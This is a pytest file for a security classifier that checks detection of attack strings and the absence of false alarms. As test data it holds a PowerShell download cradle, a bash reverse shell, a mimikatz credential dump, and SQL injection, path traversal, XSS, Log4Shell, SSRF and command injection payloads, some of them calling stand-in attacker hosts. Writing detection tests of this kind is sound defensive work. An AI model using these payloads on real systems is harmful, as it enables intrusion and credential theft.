@@ -1,0 +1,106 @@
+"""Faults that people met with classifiers of this kind, and others of the same kinds, by the shipped bundle: each with its right value.
+
+The letter is the kind of fault: A padding, B foreign strings, I labels without a score, K false alarms, L answers that cannot leave the
+process.  Kinds of the sensor are in ``tests/sensor/test_cases.py``.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import pickle
+
+import pytest
+
+from edge_demist import EdgeDemist
+
+TRACKING = "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&gclid=Cj0KCQjw2a6wBhCVARIsABPeH1vQ0m7Yt3s8cKx9bFz4&"
+TRACKING += "fbclid=IwAR1Zx7QkT9mVd3Lr5Yp8Wn2Cj6Hb4Gs0&_ga=2.143528172.1893712655.1711929600-502817364.1698765432&"
+CRADLE = "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
+
+
+@pytest.mark.parametrize("sets", [0, 1, 2, 8])
+@pytest.mark.parametrize(
+    ("path", "value"),
+    [
+        ("/search?{}q=", "1'%20UNION%20SELECT%20login,password%20FROM%20users--%20-"),
+        ("/index.php?{}ip=", "127.0.0.1;cat%20/etc/passwd"),
+        ("/view?{}page=", "../../../../etc/passwd"),
+        ("/comment?{}text=", "<script>alert(document.cookie)</script>"),
+    ],
+)
+def test_a3_an_injection_behind_tracking_parameters(model: EdgeDemist, path: str, value: str, sets: int) -> None:
+    answer = model.classify(path.format(TRACKING * sets) + value, task="uri-attack")[0]
+    assert answer.alarm and answer.label != "normal"
+
+
+@pytest.mark.parametrize(
+    "comment", ["", " # обновление системы безопасности для всех пользователей", " # 系统安全更新", " # güvenlik güncellemesi"]
+)
+def test_b3_a_comment_in_any_language_hides_nothing(model: EdgeDemist, comment: str) -> None:
+    answer = model.classify(CRADLE + comment, task="cmdline")[0]
+    assert answer.alarm and answer.label == "malicious"
+
+
+@pytest.mark.parametrize("task", ["dga", "hostname-threat", "hostname-category", "dns-tunnel", "url-phishing", "uri-attack", "cmdline"])
+@pytest.mark.parametrize("text", ["*" + "\0" * 14, "[2001:db8::1]:8080", "CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "\0\0\0\0", "����"])
+def test_i1_no_label_of_a_threat_with_a_score_of_nothing(model: EdgeDemist, task: str, text: str) -> None:
+    answer = model.classify(text, task=task)[0]
+    threats = {*model.specialist(task).positive_labels, "malware", "phishing"}
+    assert answer.label not in threats or answer.score >= 0.01
+
+
+# Of K21, ``passwd`` alone and ``this is a 'test' input`` still alarm: they are not here.
+HARMLESS = [
+    ("cmdline", r'"C:\WINDOWS\system32\cmd.exe" /d /c C:\WINDOWS\system32\hpatchmonTask.cmd'),
+    ("cmdline", r"C:\WINDOWS\system32\UsoClient.exe StartScan"),
+    ("cmdline", r'"C:\Program Files\CrowdStrike\CSFalconService.exe"'),
+    ("cmdline", "notepad.exe notes.txt"),
+    ("cmdline", r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp"),
+    ("cmdline", r'"C:\Program Files\SentinelOne\Sentinel Agent 23.4.2.216\SentinelServiceHost.exe"'),
+    ("cmdline", r"C:\Windows\system32\rundll32.exe C:\Windows\system32\Startupscan.dll,SusRunTask"),
+    ("cmdline", "/bin/sh -c [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi"),
+    ("cmdline", "/usr/bin/python3 /usr/bin/networkd-dispatcher --run-startup-triggers"),
+    ("cmdline", "/usr/bin/osqueryd --flagfile=/etc/osquery/osquery.flags"),
+    ("uri-attack", '/rest/api/2/search?jql=project = ABC AND status in (Open, "In Progress") ORDER BY created DESC'),
+    ("uri-attack", "/app/discover#/?_a=(query:(language:kuery,query:'response.status_code >= 500 and not host.name : \"web-1\"'))"),
+    ("uri-attack", '/select?q=title:("war and peace" OR "anna karenina")~2&fq=year:[1900 TO 1950]&rows=10'),
+    ("uri-attack", "/services/data/v58.0/query?q=SELECT+Id,Name+FROM+Account+LIMIT+10"),
+    ("uri-attack", "/users?name=O'Brien"),
+    ("uri-attack", "/api/data?$filter=Name eq 'Milk' and Price lt 2.55"),
+    ("uri-attack", "/wp-admin/admin-ajax.php?action=heartbeat"),
+    ("uri-attack", "//cdn.example.com/x.js"),
+    ("uri-attack", "a" * 300),
+]
+
+
+@pytest.mark.parametrize(("task", "text"), HARMLESS, ids=lambda value: value[:40])
+def test_k_what_every_network_sees_raises_no_alarm(model: EdgeDemist, task: str, text: str) -> None:
+    answer = model.classify(text, task=task)[0]
+    assert not answer.alarm and answer.label in ("benign", "normal", "legit", "unknown")
+
+
+ATTACKS = [
+    ("cmdline", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
+    ("cmdline", CRADLE),
+    ("cmdline", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+    ("uri-attack", "{{7*7}}"),
+    ("uri-attack", ";id"),
+    ("uri-attack", "/ping?host=8.8.8.8|whoami"),
+    ("uri-attack", "/?x=${jndi:ldap://evil.com/a}"),
+    ("uri-attack", "/?x=${${lower:j}ndi:${lower:l}dap://evil.com/a}"),
+    ("uri-attack", "/x?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
+    ("uri-attack", "/fetch?url=http://169.254.169.254/latest/meta-data/"),
+    ("uri-attack", "/r?url=//evil.com"),
+]
+
+
+@pytest.mark.parametrize(("task", "text"), ATTACKS, ids=lambda value: value[:40])
+def test_what_everybody_tries_alarms(model: EdgeDemist, task: str, text: str) -> None:
+    assert model.classify(text, task=task)[0].alarm
+
+
+def test_l1_answers_leave_the_process(model: EdgeDemist) -> None:
+    answer = model.classify(["a.com"], task="dga", top_k=2)[0]
+    assert pickle.loads(pickle.dumps(answer)) == answer
+    assert json.loads(json.dumps(dataclasses.asdict(answer)))["label"] == answer.label
